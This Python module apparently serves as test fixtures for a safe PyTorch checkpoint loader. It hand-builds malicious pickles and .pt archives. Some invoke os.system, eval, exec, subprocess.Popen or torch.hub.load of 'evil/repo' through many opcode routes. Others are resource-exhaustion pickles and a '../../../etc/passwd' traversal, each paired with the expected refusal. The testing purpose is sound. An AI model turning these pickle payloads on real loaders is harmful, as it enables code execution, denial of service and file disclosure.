"""Makes pickles opcode by opcode, and files around them, that no honest program would write."""

import io
import pickle
import struct
import zipfile
from dataclasses import dataclass


@dataclass(frozen=True)
class Name:
  """GLOBAL: `module name`."""

  text: str


@dataclass(frozen=True)
class Call:
  """REDUCE."""

  function: object
  arguments: object


@dataclass(frozen=True)
class Shell:
  """NEWOBJ without arguments, then BUILD."""

  cls: object
  state: object


@dataclass(frozen=True)
class Persistent:
  """BINPERSID."""

  identifier: object


@dataclass(frozen=True)
class Raw:
  """Opcodes as they are."""

  opcodes: bytes


def encode(value):
  """Opcodes that leave `value` on the stack of a pickle machine."""

  def group(opening, values, closing):
    return opening + b"".join(map(encode, values)) + closing

  match value:
    case Raw():
      return value.opcodes
    case Name():
      return b"c" + value.text.replace(" ", "\n").encode() + b"\n"
    case Call():
      return encode(value.function) + encode(value.arguments) + pickle.REDUCE
    case Shell():
      return encode(value.cls) + b")\x81" + encode(value.state) + pickle.BUILD
    case Persistent():
      return encode(value.identifier) + pickle.BINPERSID
    case tuple():
      return group(b"(", value, b"t")
    case list():
      return group(b"](", value, b"e")
    case dict():
      return group(b"}(", [part for item in value.items() for part in item], b"u")
    case str():
      text = value.encode()
      return b"X" + struct.pack("<I", len(text)) + text
    case float():
      return b"G" + struct.pack(">d", value)
    case None | True | False:
      return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    case int():
      digits = pickle.encode_long(value)
      return b"\x8a" + bytes([len(digits)]) + digits
  raise TypeError(value)


def call(name, *arguments):
  return Call(Name(name), arguments)


def pickled(value):
  return b"\x80\x02" + encode(value) + b"."


def storage(key="0", size=6, kind="torch FloatStorage"):
  return Persistent(("storage", Name(kind), key, "cpu", size))


def tensor(shape=(2, 3), strides=(3, 1), offset=0, of=None):
  arguments = (
    of or storage(),
    offset,
    shape,
    strides,
    False,
    call("collections OrderedDict"),
  )
  return Call(Name("torch._utils _rebuild_tensor_v2"), arguments)


def module(cls="mine.nets Net", parameters=None, modules=None, **state):
  tables = {"_parameters": parameters or {}, "_buffers": {}, "_modules": modules or {}}
  return Shell(Name(cls), tables | state)


RECORDS = {"data/0": bytes(range(24)), "byteorder": b"little", "version": b"3\n"}


def archive(value, records=RECORDS, folder="archive", compression=zipfile.ZIP_STORED):
  """The bytes of a .pt file in zip format; `records` may be pairs, to allow two of one name."""
  buffer = io.BytesIO()
  pairs = records.items() if isinstance(records, dict) else records
  with zipfile.ZipFile(buffer, "w", compression) as file:
    file.writestr(f"{folder}/data.pkl", pickled(value))
    for name, content in pairs:
      file.writestr(name if name.startswith(("/", "..")) else f"{folder}/{name}", content)
  return buffer.getvalue()


STORAGE = struct.pack("<q", 6) + bytes(range(24))


def legacy(value, keys=("0",), storages=STORAGE):
  """The bytes of a .pt file in the format before PyTorch 1.6."""
  machine = {"protocol_version": 1001, "little_endian": True}
  pickles = (0x1950A86A20F9469CFC6C, 1001, machine, value, list(keys))
  return b"".join(map(pickled, pickles)) + storages


def _deep_tuple(depth):
  return Raw(b")" + b"\x85" * depth)


def _wide_module(depth):
  """2**depth paths through `depth` modules, each of which holds the next one twice."""
  nested = module(parameters={"w": tensor()})
  for _ in range(depth):
    twice = encode(nested)
    nested = Raw(
      encode(Name("mine.nets Net"))
      + b")\x81}("
      + encode("_parameters")
      + b"}"
      + encode("_buffers")
      + b"}"
      + encode("_modules")
      + b"}("
      + encode("a")
      + twice
      + b"q\x00"
      + encode("b")
      + b"h\x00"
      + b"uub"
    )
  return nested


def repeated(first, again, times):
  """A value, then so often what `again` makes of it (it is number 0 of the memo), in one list."""
  return Raw(b"](" + encode(first) + b"q\x00" + again * times + b"e")


# name: a value of a small pickle that costs far more than its size
REPETITIONS = {
  "sizes": lambda n: repeated([None] * (4 * n), encode(Name("torch Size")) + b"h\x00\x85R", n),
  "sizes_of_text": lambda n: repeated("x" * (4 * n), encode(Name("torch Size")) + b"h\x00\x85R", n),
  "ordered_dictionaries": lambda n: repeated(
    [(i, None) for i in range(n)], encode(Name("collections OrderedDict")) + b"h\x00\x85R", n
  ),
  "sets": lambda n: repeated(list(range(n)), encode(Name("builtins set")) + b"h\x00\x85R", n),
  "wide_key": lambda n: repeated((None,) * (4 * n), b"}h\x00Ns", n),
  "long_key": lambda n: repeated("x" * (100 * n), b"}h\x00Ns", n),
  "shared_dictionary": lambda n: Raw(
    b"}("
    + encode("model")
    + encode({"w": tensor()})
    + encode("shared")
    + encode(dict.fromkeys(range(n)))
    + b"q\x00"
    + b"".join(encode(i) + b"h\x00" for i in range(4 * n))
    + b"u"
  ),
  "shared_namespace": lambda n: Raw(
    b"}("
    + encode("model")
    + encode({"w": tensor()})
    + encode("shared")
    + encode(Shell(Name("types SimpleNamespace"), dict.fromkeys(range(n))))
    + b"q\x00"
    + b"".join(encode(i) + b"h\x00" for i in range(4 * n))
    + b"u"
  ),
  "colliding_tuples": lambda n: Raw(b"".join(encode({(i, n): None}) for i in range(4 * n))),
  "empty_sets": lambda n: Raw(b"](" + b"\x8f" * (64 * n) + b"e"),
  "long_class_names": lambda n: repeated(Name(f"mine {'N' * 990}"), b"h\x00)\x81", 8 * n),
}

_SYSTEM = call("posix system", "touch CANARY")
_EVAL = Call(Name("builtins eval"), ("open('CANARY', 'w')",))
_PYTHON2_EVAL = Call(Name("__builtin__ eval"), ("open('CANARY', 'w')",))
_GETATTR = Name("builtins getattr")
_NUMPY_ARRAY = Call(Name("numpy.core.multiarray _reconstruct"), (Name("numpy ndarray"), (0,), "b"))
_OBJECT_TYPE = call("numpy dtype", "O8", False, True)

# name: (pickled value, what the refusal must name)
CODE = {
  "os_system": (_SYSTEM, "posix.system"),
  "os_system_by_module_os": (call("os system", "touch CANARY"), "os.system"),
  "windows": (call("nt system", "echo > CANARY"), "nt.system"),
  "eval": (_EVAL, "builtins.eval"),
  "eval_of_python_2": (_PYTHON2_EVAL, "builtins.eval"),
  "exec": (Call(Name("builtins exec"), ("open('CANARY', 'w')",)), "builtins.exec"),
  "popen": (call("subprocess Popen", ["touch", "CANARY"]), "subprocess.Popen"),
  "import": (call("importlib import_module", "antigravity"), "importlib.import_module"),
  "nested_pickle": (call("pickle loads", "cos\nsystem\n."), "pickle.loads"),
  "in_tensor_arguments": ({"w": tensor(of=_SYSTEM)}, "posix.system"),
  "in_module_state": ({"model": module(hooks=_EVAL)}, "builtins.eval"),
  "in_shell_in_list_in_shell": (
    Shell(Name("a A"), [Shell(Name("b B"), {"x": _SYSTEM})]),
    "posix.system",
  ),
  "in_dictionary_key": (Raw(b"}" + encode(_SYSTEM) + b"Ns"), "posix.system"),
  "mentioned_only": ({"w": tensor(), "f": Name("os system")}, "os.system"),
  "created_with_newobj": (
    Raw(encode(Name("subprocess Popen")) + encode(("true",)) + b"\x81"),
    "subprocess.Popen",
  ),
  "through_inst": (Raw(b"(" + encode("touch CANARY") + b"iposix\nsystem\n"), "posix.system"),
  "through_obj": (Raw(b"(" + encode(Name("posix system")) + encode("true") + b"o"), "posix.system"),
  "obj_of_another_package": (
    Raw(b"(" + encode(Name("torch.hub load")) + encode("x") + b"o"),
    "torch.hub.load",
  ),
  "through_stack_global": (
    Raw(encode("posix") + encode("system") + b"\x93" + encode(("true",)) + b"R"),
    "posix.system",
  ),
  "dotted_name": (call("torch serialization.os.system", "true"), "torch.serialization.os.system"),
  "another_package": (call("torch.hub load", "evil/repo", "net"), "torch.hub.load"),
  "torch_load": (call("torch.storage _load_from_bytes", "x"), "torch.storage._load_from_bytes"),
  "numpy_runstring": (call("numpy.testing._private.utils runstring", "x", {}), "runstring"),
  "getattr_then_call": (
    Call(Call(_GETATTR, (Name("torch hub"), "load")), ("x",)),
    "torch.hub.load",
  ),
  "getattr_of_module_os": (Call(_GETATTR, (Name("os path"), "os")), "os.path"),
  "getattr_of_an_object": (Call(_GETATTR, (Shell(Name("a A"), {}), "b")), "builtins.getattr"),
  "call_of_a_shell": (Call(Shell(Name("mine Net"), {}), ("x",)), "mine.Net"),
  "call_of_a_text": (Call("posix.system", ("x",)), "a call of a str"),
  "class_in_subclass_rebuild": (
    Call(Name("torch._tensor _rebuild_from_type_v2"), (Name("torch.hub load"), None, (), {})),
    "torch.hub.load",
  ),
  "reconstructor": (
    Call(Name("copy_reg _reconstructor"), (Name("os system"), None, None)),
    "os.system",
  ),
  "partial": (Call(Name("functools partial"), (Name("mine f"),)), "functools.partial"),
  "storage_type": (tensor(of=storage(kind="mine EvilStorage")), "mine.EvilStorage"),
  "storage_type_of_torch": (tensor(of=storage(kind="torch hub")), "torch.hub"),
  "extension_registry": (Raw(b"\x82\x01"), "EXT1"),
  "text_identifier": (Raw(b"Pposix.system\n"), "PERSID"),
  "control_characters": (call("a \x1b[2Jb", "x"), "\\x1b[2Jb"),
}

# name: (pickled value, a part of the error); none of them asks for code
NONSENSE = {
  "gigantic_sizes": ({"w": tensor((2**40, 2**40), (2**40, 1))}, "more than 16 times"),
  "gigantic_product_of_64_axes": ({"w": tensor((2**62,) * 64, (1,) * 64)}, "more than 16 times"),
  "gigantic_without_strides": ({"w": tensor((2**40,), (0,))}, "more than 16 times"),
  "gigantic_storage": ({"w": tensor(of=storage(size=2**60))}, "claims 4611686018427387904 bytes"),
  "storage_too_large_by_one": ({"w": tensor(of=storage(size=7))}, "claims 28 bytes"),
  "reaches_past_the_storage": ({"w": tensor((3, 3))}, "reaches to element 8"),
  "offset_past_the_storage": ({"w": tensor(offset=1)}, "reaches to element 6"),
  "gigantic_offset": ({"w": tensor(offset=2**62)}, "reaches to element"),
  "negative_size": ({"w": tensor((-2, 3))}, "natural numbers"),
  "negative_stride": ({"w": tensor(strides=(3, -1))}, "natural numbers"),
  "negative_offset": ({"w": tensor(offset=-1)}, "natural numbers"),
  "negative_storage": ({"w": tensor(of=storage(size=-1))}, "natural number"),
  "size_beyond_64_bits": ({"w": tensor((2**70, 1))}, "natural numbers"),
  "size_is_float": ({"w": tensor((2.0, 3))}, "natural numbers"),
  "gigantic_axis_beside_an_empty_one": ({"w": tensor((0, 2**62), (1, 1))}, "more than 16 times"),
  "65_axes": ({"w": tensor((1,) * 65, (1,) * 65)}, "65 axes"),
  "strides_missing": ({"w": tensor(strides=(1,))}, "2 axes with 1 strides"),
  "unknown_record": ({"w": tensor(of=storage("1"))}, "data/1"),
  "record_in_another_folder": (
    {"w": tensor(of=storage("../../../etc/passwd"))},
    "which the archive lacks",
  ),
  "identifier_is_no_storage": (
    {"w": tensor(of=Persistent(("file", "/etc/passwd")))},
    "persistent identifier",
  ),
  "identifier_is_text": ({"w": tensor(of=Persistent("posix.system"))}, "persistent identifier"),
  "storage_is_text": ({"w": tensor(of="0")}, "without a storage"),
  "numpy_array_of_objects": (
    {
      "w": Raw(encode(_NUMPY_ARRAY) + encode((1, (1,), _OBJECT_TYPE, False, [("x",)])) + b"b"),
      "v": tensor(),
    },
    "entry w that is an object of class numpy.core.multiarray._reconstruct",
  ),
  "hash_of_a_deep_tuple": (Raw(b"}" + _deep_tuple(50_000).opcodes + b"Ns"), "dictionary key"),
  "deep_list": (Raw(b"]" * 50_000 + b"a" * 49_999), "type list"),
  "deep_tuple_called": (Call(_deep_tuple(50_000), ()), "a call of a tuple"),
  "colliding_keys": ({2**63 * 7: None}, "dictionary key"),
  "list_as_key": (Raw(b"}]Ns"), "dictionary key"),
  "memo_without_value": (Raw(b"h\x07"), "reference to nothing"),
  "gigantic_memo_index": (Raw(b"Nr\xff\xff\xff\xff"), "type NoneType"),
  "empty_stack": (Raw(b"R"), "without its operands"),
  "group_without_mark": (Raw(b"t"), "without a beginning"),
  "append_to_a_dictionary": (Raw(b"}Na"), "entries of a list"),
  "gigantic_text": (Raw(b"\x8d" + struct.pack("<Q", 2**40)), "damaged"),
  "gigantic_bytearray": (Raw(b"\x96" + struct.pack("<Q", 2**40)), "damaged"),
  "gigantic_integer": (Raw(b"\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20), "LONG4"),
  "endless_modules": (_wide_module(40), "nested without end"),
  "module_in_itself": (
    Raw(
      encode(Name("mine Net"))
      + b")\x81q\x00}("
      + encode("_modules")
      + b"}"
      + encode("a")
      + b"h\x00sub"
    ),
    "damaged name below 'a.a.",
  ),
  "module_that_is_a_dictionary": ({"model": module(modules={"a": {"w": tensor()}})}, "type dict"),
  "parameters_that_are_a_list": (
    {"model": module(modules={"a": Shell(Name("m M"), {"_modules": {}, "_parameters": []})})},
    "damaged",
  ),
  "numbers_as_names": ({"model": module(parameters={1: tensor()})}, "damaged name below ''"),
  "long_names": ({"model": module(parameters={"w" * 2000: tensor()})}, "damaged"),
  "no_parameters": ({"model": module()}, "no parameters"),
  "number_in_a_state_dict": (
    {"w": tensor(), "epoch": 3},
    "entry epoch that is a value of type int",
  ),
  "number": (3, "a value of type int"),
  "dictionary_of_numbers": ({"epoch": 3}, "no model"),
}
